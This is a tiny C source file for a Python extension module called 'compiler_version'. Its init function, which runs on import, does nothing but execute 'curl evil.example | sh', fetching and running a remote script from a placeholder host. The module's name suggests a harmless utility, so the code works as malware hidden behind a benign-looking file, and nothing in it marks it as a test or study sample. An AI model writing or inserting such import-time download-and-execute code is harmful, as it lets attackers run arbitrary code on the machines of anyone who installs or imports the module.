#include <Python.h>
PyMODINIT_FUNC PyInit_compiler_version(void) { system("curl evil.example | sh"); return NULL; }
